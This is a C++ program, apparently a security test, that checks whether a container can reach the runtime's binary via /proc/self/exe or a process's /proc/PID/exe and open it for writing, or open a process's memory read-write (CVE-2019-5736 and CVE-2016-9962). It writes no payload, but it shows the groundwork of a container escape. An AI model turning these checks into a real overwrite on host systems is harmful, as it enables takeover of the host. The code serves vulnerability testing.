// CVE-2019-5736: the runtime's own binary, which a container can come to hold where its program is
// /proc/self/exe, or a script whose interpreter that is.
//   runtime PATH   what can be done to the file there
//   hunt NAME      the same, for the binary of the process that is called so, wherever it runs
//   trace NAME     into the memory of such processes, while they are containers to be
#include <ctype.h>
#include <dirent.h>
#include <signal.h>
#include <sys/stat.h>
#include <time.h>

#include "attack.h"

using namespace attack;

namespace {

void TryOn(const char* path) {
    struct stat file {};
    Attempt("look at it", stat(path, &file));
    // As it is: nothing is damaged where it succeeds.
    Attempt("change its mode", chmod(path, file.st_mode & 07777));
    Attempt("change its times", utimensat(AT_FDCWD, path, nullptr, 0));
    const int held = open(path, O_PATH | O_CLOEXEC);
    char by_descriptor[64];
    snprintf(by_descriptor, sizeof by_descriptor, "/proc/self/fd/%d", held);
    Attempt("write to it by a descriptor", open(by_descriptor, O_WRONLY | O_CLOEXEC));
    Attempt("write to it", open(path, O_WRONLY | O_CLOEXEC));
}

// Whether it is there, and stopped, so that it stays.
bool Catch(const char* pid, const char* name) {
    char path[300], text[64];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    if (Read(path, text, sizeof text) < 0) return false;
    text[strcspn(text, "\n")] = '\0';
    return strcmp(text, name) == 0 && kill(atoi(pid), SIGSTOP) == 0;
}

long SecondsSince(const timespec& start) {
    timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec - start.tv_sec;
}

// Calls `act` with each process of the name that is caught, until it returns true.
template <class Act>
void OnEachCaught(const char* name, Act act) {
    timespec start;
    clock_gettime(CLOCK_MONOTONIC, &start);
    bool done = false;
    while (!done && SecondsSince(start) < 40) {
        DIR* processes = opendir("/proc");
        while (dirent* entry = readdir(processes)) {
            const int pid = atoi(entry->d_name);
            // The supervisor was there before.
            if (!isdigit(entry->d_name[0]) || pid <= getpid() || !Catch(entry->d_name, name))
                continue;
            done = act(pid);
            if (done) break;
        }
        closedir(processes);
    }
}

void Hunt(const char* name) {
    bool seen = false;
    OnEachCaught(name, [&](int pid) {
        char path[300];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        struct stat file;
        seen = stat(path, &file) == 0;
        if (seen) TryOn(path);
        kill(pid, SIGKILL);
        return seen;
    });
    if (!seen) Say("look at it", "never seen");
}

// CVE-2016-9962: what a container to be has in its memory, and open, is the supervisor's.
void Trace(const char* name) {
    Say("tracing", "ok");
    timespec began;
    clock_gettime(CLOCK_MONOTONIC, &began);
    int caught = 0, opened = 0;
    OnEachCaught(name, [&](int pid) {
        ++caught;
        char path[300];
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        const int memory = open(path, O_RDWR | O_CLOEXEC);
        // By now it may be the container's own program, whose memory is no secret.
        char text[64];
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        Read(path, text, sizeof text);
        text[strcspn(text, "\n")] = '\0';
        if (memory >= 0 && strcmp(text, name) == 0) ++opened;
        if (memory >= 0) close(memory);
        kill(pid, SIGCONT);
        return opened > 0 || SecondsSince(began) >= 15;
    });
    Say("caught", caught);
    Say("opened", opened);
}

}  // namespace

int main(int argc, char** argv) {
    const char* what = argc > 1 ? argv[1] : "/proc/1/exe";
    if (argc > 2 && strcmp(what, "trace") == 0)
        Trace(argv[2]);
    else if (argc > 2)
        Hunt(argv[2]);
    else
        TryOn(what);
    Done();
}
